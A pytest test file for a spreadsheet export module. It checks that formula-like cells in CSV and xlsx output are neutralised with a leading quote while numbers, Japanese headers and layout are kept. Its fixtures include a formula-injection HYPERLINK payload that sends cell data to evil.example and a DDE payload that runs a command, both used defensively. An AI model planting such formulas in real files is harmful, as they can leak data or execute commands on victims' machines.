"""Reader's tables: texts that look like formulas stay text in CSV and xlsx; numbers stay numbers."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from helpers.core.tables import read_csv, write_csv
from helpers.present.export import csv_safe_frame, looks_like_formula, neutralise_text, start_tables

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
NAMES = [
    HYPERLINK,
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "市民活動支援",
]


# a bare carriage return becomes a line feed in reader's tables (see helpers.present.export.reader_text)
READER_NAMES = [n.replace("\r", "\n") for n in NAMES]


def _tables() -> dict[str, pd.DataFrame]:
    metrics = pd.DataFrame(
        {
            "kpi_id": ["1-1", "1-2"],
            "indicator": [HYPERLINK, "市民活動支援センター来場者数"],
            "change_pt": pd.array([-2.2, None], dtype="Float64"),
            "value": [-5.0, 9718.0],
            "note": [DDE, None],
            "met": pd.array([False, None], dtype="boolean"),
        }
    )
    items = pd.DataFrame(
        {
            "item_no": list(range(1, len(NAMES) + 1)),
            "item_name": NAMES,
            "status": ["S", "A", "B", "A", "A", "A", "B", "S"],
        }
    )
    return {"metrics": metrics, "items": items}


@pytest.fixture
def written(tmp_path):
    paths = start_tables(
        _tables(), tmp_path, "tables.xlsx", {"metrics": "成果指標", "items": "取組"}
    ).result()
    return tmp_path, paths


@pytest.mark.parametrize("text", NAMES[:-1] + [DDE])
def test_formula_like_texts_are_recognised(text):
    assert looks_like_formula(text)
    assert neutralise_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["市民活動支援", "9,718人", "−2.2ポイント", "－", "", "'=quoted", "a=b"]
)
def test_ordinary_texts_are_left_alone(text):
    assert neutralise_text(text) == text


def test_numbers_are_not_touched():
    assert neutralise_text(-2.2) == -2.2
    df = csv_safe_frame(pd.DataFrame({"x": [-2.2, 3.0], "t": ["-1", "ok"]}))
    assert df["x"].tolist() == [-2.2, 3.0]
    assert df["t"].tolist() == ["'-1", "ok"]


def test_workbook_has_no_formula_and_keeps_the_text(written):
    tmp, _ = written
    wb = openpyxl.load_workbook(tmp / "tables.xlsx")
    assert wb.sheetnames == ["成果指標", "取組"]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    items = wb["取組"]
    names = [items.cell(row=r, column=2).value for r in range(2, len(NAMES) + 2)]
    assert names == READER_NAMES
    assert items.cell(row=2, column=2).quotePrefix  # =HYPERLINK marked as text, as Excel does
    assert not items.cell(row=9, column=2).quotePrefix  # an ordinary name is not
    m = wb["成果指標"]
    header = [c.value for c in m[1]]
    row = {h: c for h, c in zip(header, m[2], strict=True)}
    # the workbook is for reading: Japanese headers (helpers.present.display's labels)
    assert row["成果指標"].value == HYPERLINK and row["成果指標"].data_type == "s"
    assert row["備考"].value == DDE and row["備考"].data_type == "s"
    # numbers stay numbers: −2.2 is the number −2.2
    assert row["増減（ポイント）"].value == pytest.approx(-2.2)
    assert row["増減（ポイント）"].data_type == "n"
    assert row["今期の値"].value == -5 and row["今期の値"].data_type == "n"


def test_csv_cells_that_look_like_formulas_start_with_a_quote(written):
    tmp, _ = written
    raw = (tmp / "items.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    with open(tmp / "items.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    got = [r["取組名"] for r in rows]  # reader files: Japanese headers (issue 21)
    assert got[:-1] == ["'" + n for n in READER_NAMES[:-1]]
    assert got[-1] == "市民活動支援"
    with open(tmp / "metrics.csv", encoding="utf-8-sig", newline="") as fh:
        m = list(csv.DictReader(fh))
    assert m[0]["成果指標"] == "'" + HYPERLINK
    assert m[0]["備考"] == "'" + DDE
    assert m[0]["増減（ポイント）"] == "-2.2"  # a number, written as a number
    assert m[0]["今期の値"] == "-5"
    assert m[1]["増減（ポイント）"] == ""  # missing stays empty, never 0


def test_processed_csv_keeps_texts_exactly(tmp_path):
    """data/processed is read by code: tables.write_csv does not neutralise."""
    df = pd.DataFrame({"item_name": [HYPERLINK, DDE]})
    write_csv(df, tmp_path / "items.csv")
    assert read_csv(tmp_path / "items.csv")["item_name"].tolist() == [HYPERLINK, DDE]


def test_write_tables_returns_every_file(written):
    tmp, paths = written
    assert [p.name for p in paths] == ["metrics.csv", "items.csv", "tables.xlsx"]
    assert all(p.parent == tmp for p in paths)


def test_the_audit_counts_are_numeric_cells_in_the_workbook(tmp_path):
    """Excel sums and sorts them (issue 21: the 検算 sheet held its counts as text)."""
    audit = pd.DataFrame(
        {"check": ["area_row_sum"], "scope": ["area 1"], "expected": ["7"], "actual": ["7"],
         "ok": [True], "detail": ["分野1"]}
    )  # fmt: skip
    start_tables({"audit": audit}, tmp_path, sheet_names={"audit": "検算"}).result()
    ws = openpyxl.load_workbook(tmp_path / "tables.xlsx")["検算"]
    assert [c.value for c in ws[1]] == [
        "検算の種類",
        "対象",
        "報告書の値",
        "再計算の値",
        "結果",
        "検算内容",
    ]
    assert [c.value for c in ws[2]] == [
        "分野の状況別の件数の和と項目数",
        "分野1",
        7,
        7,
        "一致",
        "分野1",
    ]


def test_workbook_layout_and_missing_values(tmp_path):
    """What a reader sees besides the values: frozen header row, column widths in characters
    (8 to 60, the file's stored width), missing values as empty cells (never 0), texts that
    look like numbers kept as text."""
    metrics = pd.DataFrame(
        {
            "kpi_id": ["007", "1-2"],
            "indicator": ["市民活動支援センター来場者数" * 5, "x"],
            "value": pd.array([None, 9718.0], dtype="Float64"),
            "note": [None, ""],
        }
    )
    start_tables({"metrics": metrics}, tmp_path, sheet_names={"metrics": "成果指標"}).result()
    ws = openpyxl.load_workbook(tmp_path / "tables.xlsx")["成果指標"]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["指標ID", "成果指標", "今期の値", "備考"]
    assert ws["A2"].value == "007" and ws["A2"].data_type == "s"
    assert ws["C2"].value is None and ws["D2"].value is None and ws["D3"].value is None
    assert ws["C3"].value == 9718 and ws["C3"].data_type == "n"
    widths = {i: d.width for d in ws.column_dimensions.values() for i in range(d.min, d.max + 1)}
    assert widths == {1: 8, 2: 60, 3: 8, 4: 8}
    assert ws.auto_filter.ref is None
